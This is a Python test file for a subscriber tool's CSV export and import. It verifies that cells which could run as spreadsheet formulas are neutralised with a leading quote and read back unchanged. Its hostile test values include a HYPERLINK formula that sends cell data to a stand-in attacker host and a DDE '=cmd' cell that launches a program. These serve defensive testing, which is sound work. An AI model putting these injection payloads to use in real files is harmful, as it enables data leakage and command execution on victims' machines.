"""CSV injection: no cell we write runs as a formula, and the importer reads it back as it was."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select
from sqlalchemy.orm import Session

from subscribers.models import Subscriber
from subscribers.spreadsheet import read_cell, safe_cell
from tests.conftest import Cli
from tests.subscribers.test_importer import partners, write  # noqa: F401 - a fixture

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "+1 555 0100",
    "-2+3",
    "@SUM(A1:A9)",
    "'=already quoted once",
]
# Stored values are stripped, so a leading tab or CR never reaches the database; the cells
# are still neutralised if they come from elsewhere.
CONTROL_LEADING = ["\tcmd", "\r=cmd"]


@given(st.text())
def test_every_text_comes_back_as_it_was(value: str) -> None:
    assert read_cell(str(safe_cell(value))) == value


def test_cells_that_could_run_are_text_for_a_spreadsheet() -> None:
    for value in HOSTILE + CONTROL_LEADING:
        written = safe_cell(value)
        assert isinstance(written, str) and written.startswith("'")
        assert written[1:] == value
    assert safe_cell("Amara Diallo") == "Amara Diallo"
    assert safe_cell("'Tis the season") == "'Tis the season"
    assert safe_cell(42) == 42


def test_an_export_neutralises_formulas_and_imports_back_unchanged(
    partners: Cli,  # noqa: F811
    session: Session,
    tmp_path: Path,
) -> None:
    for index, value in enumerate(HOSTILE):
        partners.ok(
            "subscribers",
            "add",
            f"p{index}@example.org",
            "--list",
            "partners",
            "--name",
            value,
            "--attribute",
            f"note={value}",
        )
    exported = tmp_path / "out.csv"
    partners.ok("subscribers", "export", "--list", "partners", "--output", str(exported))
    rows = list(csv.DictReader(io.StringIO(exported.read_text(encoding="utf-8"))))
    assert len(rows) == len(HOSTILE)
    for row in rows:
        assert row["name"].startswith("'") and row["note"].startswith("'"), row

    # Change the names, then import the export: every name is as it was typed.
    for subscriber in session.scalars(select(Subscriber)):
        subscriber.name = "changed"
    session.commit()
    again = partners.ok(
        "subscribers", "import", str(exported), "--list", "partners", "--json"
    ).json()
    assert again["rejected"] == 0
    session.expire_all()
    names = {s.email: (s.name, s.attributes["note"]) for s in session.scalars(select(Subscriber))}
    for index, value in enumerate(HOSTILE):
        assert names[f"p{index}@example.org"] == (value, value)


def test_the_rejects_file_neutralises_formulas_too(
    partners: Cli,  # noqa: F811
    tmp_path: Path,
) -> None:
    source = write(tmp_path / "in.csv", b"not-an-address,\"=cmd|'/C calc'!A0\",fr,,\n")
    partners.ok("subscribers", "import", str(source), "--list", "partners")
    rejects = list(csv.reader((tmp_path / "in.rejects.csv").open(encoding="utf-8")))
    assert rejects[1][3] == "'=cmd|'/C calc'!A0"
